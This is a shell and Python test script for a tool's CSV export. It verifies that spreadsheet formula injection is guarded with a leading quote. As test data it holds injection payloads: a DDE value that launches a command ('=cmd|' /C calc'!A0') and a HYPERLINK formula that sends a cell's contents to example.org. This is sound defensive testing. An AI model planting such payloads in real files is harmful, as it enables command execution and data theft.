#!/bin/sh
# export-csv.sh - the CSV export read back by Python's csv module.
#
# 1. The fixed session (tests/export_fixture.h), through tests/tools/export_fixture: raw CSV
#    (--csv-raw) gives every original text exactly, with ',' and with ';'; the CSV for a
#    spreadsheet starts with a byte order mark and gives every text exactly once the guard
#    (a leading ') is taken off, and a guarded cell is ' + the original; every line names the
#    session's title, organisation, group and date.
# 2. meetlat --export csv on session files written here with a text for each guard character:
#    the separator follows the content's language unless --separator says otherwise, a cell
#    reads back as the table below says, and the raw CSV of two sessions concatenated reads
#    as one table whose lines say which session they come from.
# Needs BUILD (the build folder, holding tests/tools/export_fixture), MEETLAT and PYTHON.
. "$(dirname "$0")/lib/cli.sh"
set -e
needs BUILD
: "${MEETLAT:=$BUILD/meetlat}"
tool="$BUILD/tests/tools/export_fixture"

"$tool" strings > "$work/strings"
"$tool" csv-raw , > "$work/raw-comma.csv"
"$tool" csv-raw ';' > "$work/raw-semicolon.csv"
"$tool" csv , > "$work/sheet-comma.csv"
"$tool" csv > "$work/sheet-default.csv"

"$PYTHON" - "$work" <<'EOF'
import csv
import sys

COLUMNS = ["session_title", "session_organisation", "session_group", "session_date",
           "kind", "group", "row_id", "row", "votes", "distribution", "median", "span",
           "disagree", "current", "current_name", "target", "target_name", "note", "action",
           "owner", "due", "done"]
BOM = b"\xef\xbb\xbf"


def fail(message):
    sys.exit("export-csv: " + message)


def needs_guard(text):
    """meetlat(1): = + - @ tab or CR first, or = + - @ after blanks; leading 's skipped."""
    text = text.lstrip("'")
    if text[:1] in ("\t", "\r"):
        return True
    return text.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


def unguard(cell):
    """What a program does to a cell of a CSV for a spreadsheet to get the text back."""
    return cell[1:] if cell.startswith("'") and needs_guard(cell[1:]) else cell


def expected_records(path):
    """The texts each data line must hold, as the tool took them from the session."""
    records = []
    with open(path, encoding="ascii") as f:
        names = f.readline().split()
        for line in f:
            kind, *texts = line.split()
            decoded = [bytes.fromhex(t[1:]).decode("utf-8") for t in texts]
            records.append(dict(zip(names[1:], decoded), kind=kind))
    return records


def read(path, sep, spreadsheet, expected):
    """The records of the CSV at PATH, after checking its BOM, line ends and header."""
    raw = open(path, "rb").read()
    if raw.startswith(BOM) != spreadsheet or raw.count(BOM) != spreadsheet:
        fail(f"{path}: a byte order mark must start a CSV for a spreadsheet, and only that")
    if not raw.endswith(b"\r\n") or raw.count(b"\r\n") != len(expected) + 1:
        fail(f"{path}: lines must end in CRLF, one per record")
    with open(path, encoding="utf-8-sig" if spreadsheet else "utf-8", newline="") as f:
        records = list(csv.reader(f, delimiter=sep, strict=True))
    if records[0] != COLUMNS:
        fail(f"{path}: header is {records[0]}")
    if len(records) != len(expected) + 1:
        fail(f"{path}: {len(records) - 1} records, expected {len(expected)}")
    return records


def check(path, sep, spreadsheet, expected):
    """Every text of EXPECTED is in its cell: exactly, or for a spreadsheet ' + the text
    where it would be a formula; returns the records and the number of guarded cells."""
    records = read(path, sep, spreadsheet, expected)
    guarded = 0
    for number, (record, want) in enumerate(zip(records[1:], expected), start=2):
        if len(record) != len(COLUMNS):
            fail(f"{path}: record {number} has {len(record)} fields")
        got = dict(zip(COLUMNS, record))
        for column, text in want.items():
            cell = got[column]
            if spreadsheet and needs_guard(text):
                guarded += 1
                if cell != "'" + text:
                    fail(f"{path}: record {number}, {column}: {cell!r} is not ' + {text!r}")
            if (unguard(cell) if spreadsheet else cell) != text:
                fail(f"{path}: record {number}, {column}: {cell!r} != {text!r}")
    return records, guarded


tmp = sys.argv[1]
expected = expected_records(f"{tmp}/strings")
notes = "".join(r["note"] for r in expected)
for hostile in ["|", "<script>", '"', "'", "&", "\n", "één", ";", ",", "\\"]:
    if hostile not in notes:
        fail(f"the fixed session lost its hostile note ({hostile!r} missing)")
for start in "=-@":
    if not any(r["note"].startswith(start) or r["action"].startswith(start)
               for r in expected):
        fail(f"the fixed session lost its text starting with {start}")
for r in expected:
    if (r["session_title"], r["session_date"]) != ("Workshop sociale media", "2026-11-26"):
        fail(f"the fixed session's title or date is not on the line {r}")

raw_comma, _ = check(f"{tmp}/raw-comma.csv", ",", False, expected)
raw_semicolon, _ = check(f"{tmp}/raw-semicolon.csv", ";", False, expected)
sheet_comma, guarded = check(f"{tmp}/sheet-comma.csv", ",", True, expected)
sheet_default, _ = check(f"{tmp}/sheet-default.csv", ";", True, expected)
if guarded != 3:
    fail(f"{guarded} guarded cells in the fixed session's CSV, expected 3 (- = @)")
median = COLUMNS.index("median")
for a, b in zip(raw_comma, raw_semicolon):
    if a[:median] + a[median + 1:] != b[:median] + b[median + 1:] or \
            a[median].replace(".", ",") != b[median]:
        fail(f"the two separators read back differently: {a} / {b}")
if sheet_default != [[c.replace(".", ",") if i == median else c for i, c in enumerate(r)]
                     for r in sheet_comma]:
    fail("the default CSV of the Dutch almanac is not the ',' one with ';'")
print(f"export-csv: {len(expected)} records read back exactly, raw and guarded, "
      "with ',' and ';'")
EOF

cat > "$work/english.yaml" <<'YAML'
meetlat_content: 1
id: short-en
title: "Short"
language: en
phases:
  - {number: 1, name: "one", summary: s, intro: i}
  - {number: 2, name: "two", summary: s, intro: i}
model:
  - group: g
    title: "Group"
    dimensions:
      - {id: r1, name: "Row one", behaviour: {1: x, 2: y}}
      - {id: r2, name: "Row two", behaviour: {1: x, 2: y}}
YAML

"$PYTHON" - "$work" "$MEETLAT" <<'EOF'
import csv
import io
import json
import subprocess
import sys

tmp, meetlat = sys.argv[1:]
BOM = "\ufeff"

# A text as typed, and its cell in a CSV for a spreadsheet. In every format a tab becomes a
# space and a CR a '?' first; the raw CSV holds that, unguarded.
CASES = [
    ('=HYPERLINK("http://example.org/?"&A1,"click")',
     '\'=HYPERLINK("http://example.org/?"&A1,"click")'),
    ("+31 6 1234 5678", "'+31 6 1234 5678"),
    ("-5 ideeën", "'-5 ideeën"),
    ("-5", "'-5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("=1;2,3", "'=1;2,3"),
    (" =1+1", "' =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\t=1+1", "' =1+1"),
    ("\tmet tab", " met tab"),
    ("\r=1+1", "?=1+1"),
    ("'=1+1", "''=1+1"),
    ("'citaat'", "'citaat'"),
    ("a=b-c", "a=b-c"),
    ("–5", "–5"),
]
ROWS = ["content", "customer-experience", "context", "conversatie", "collaboratie",
        "visie-ambitie", "functie-resultaat", "processen-activiteiten-eigenaarschap",
        "middelen-ict-archivering", "mensen"]
META = {"title": "=cmd|' /C calc'!A0", "organisation": "@Gemeente", "group": "-Team",
        "date": "2026-11-26"}


def fail(message):
    sys.exit("export-csv: " + message)


def cleaned(text):
    return text.replace("\t", " ").replace("\r", "?")


def session(path, meta, content_id, notes, actions):
    """Writes a session file with META, a note per row and the actions (text, owner)."""
    q = lambda text: json.dumps(text, ensure_ascii=False)  # a YAML double-quoted scalar
    lines = ["meetlat_session: 1"] + [f"{k}: {q(v)}" for k, v in meta.items()]
    lines.append(f"content: {{id: {content_id}}}")
    lines.append("scores:")
    lines += [f"  {row}: {{votes: [1, 2], note: {q(note)}}}" for row, note in notes]
    lines.append("actions:" if actions else "actions: []")
    lines += [f"  - {{text: {q(text)}, owner: {q(owner)}}}" for text, owner in actions]
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")


def export(*args):
    """The output of meetlat --export csv ARGS, checked for exit status 0 and no stderr."""
    run = subprocess.run([meetlat, "--export", "csv", *args], capture_output=True)
    if run.returncode != 0 or run.stderr:
        fail(f"meetlat --export csv {' '.join(args)}: exit {run.returncode}, {run.stderr!r}")
    return run.stdout.decode("utf-8")


def table(text, sep):
    """The CSV TEXT as dictionaries, read strictly with SEP."""
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=sep, strict=True))


notes = list(zip(ROWS, [typed for typed, _ in CASES]))
actions = [(typed, "+31 6 1234 5678") for typed, _ in CASES[len(ROWS):]]
session(f"{tmp}/guard.yaml", META, "sociale-media-almanak", notes, actions)

sheet = export(f"{tmp}/guard.yaml")
raw = export("--csv-raw", f"{tmp}/guard.yaml")
if not sheet.startswith(BOM + "session_title;") or raw.startswith(BOM) or BOM in raw:
    fail("the Dutch almanac: a BOM and ';' for a spreadsheet; ';' and no BOM raw")
for text, raw_mode in ((sheet[1:], False), (raw, True)):
    lines = table(text, ";")
    cells = [r["note"] for r in lines if r["kind"] == "row"][:len(ROWS)]
    cells += [r["action"] for r in lines if r["kind"] == "action"]
    for (typed, guarded), cell in zip(CASES, cells):
        want = cleaned(typed) if raw_mode else guarded
        if cell != want:
            fail(f"{'raw' if raw_mode else 'spreadsheet'}: {typed!r} gave {cell!r}, "
                 f"expected {want!r}")
    for r in lines:
        for key, value in META.items():
            want = value if raw_mode or key == "date" else "'" + value
            if r["session_" + key] != want:
                fail(f"session_{key} is {r['session_' + key]!r} on a line, expected {want!r}")
        if r["kind"] == "action" and r["owner"] != ("+31 6 1234 5678" if raw_mode
                                                    else "'+31 6 1234 5678"):
            fail(f"the owner is {r['owner']!r}")
    if len(lines) != len(ROWS) + len(actions):
        fail(f"{len(lines)} lines, expected {len(ROWS) + len(actions)}")
if not export("--separator", ",", f"{tmp}/guard.yaml").startswith(BOM + "session_title,"):
    fail("--separator , does not win over the Dutch default")

english = ["-c", f"{tmp}/english.yaml"]
session(f"{tmp}/a.yaml", {"title": "Sessie A", "organisation": "Gemeente A", "group": "Team A",
                          "date": "2026-11-26"}, "short-en", [("r1", "-a")], [("x", "Piet")])
session(f"{tmp}/b.yaml", {"title": "Sessie B", "organisation": "Gemeente B", "group": "Team B",
                          "date": "2026-12-01"}, "short-en", [("r2", "b")], [])
a, b = (export(*english, "--csv-raw", f"{tmp}/{n}.yaml") for n in "ab")
if not export(*english, f"{tmp}/a.yaml").startswith(BOM + "session_title,") or \
        not a.startswith("session_title,") or \
        not export(*english, "--separator", ";", f"{tmp}/a.yaml").startswith(BOM + "session_title;"):
    fail("English content: ',' by default, ';' when asked for")
combined = table(a + b.split("\r\n", 1)[1], ",")  # the second header left out
by_session = {}
for r in combined:
    by_session.setdefault((r["session_title"], r["session_organisation"], r["session_group"],
                           r["session_date"]), []).append((r["kind"], r["row_id"], r["note"]))
if by_session != {
        ("Sessie A", "Gemeente A", "Team A", "2026-11-26"):
            [("row", "r1", "-a"), ("row", "r2", ""), ("action", "", "")],
        ("Sessie B", "Gemeente B", "Team B", "2026-12-01"):
            [("row", "r1", ""), ("row", "r2", "b")]}:
    fail(f"two sessions combined read back as {by_session}")
print(f"export-csv: {len(CASES)} guard cases, the separator by language, two sessions combined")
EOF
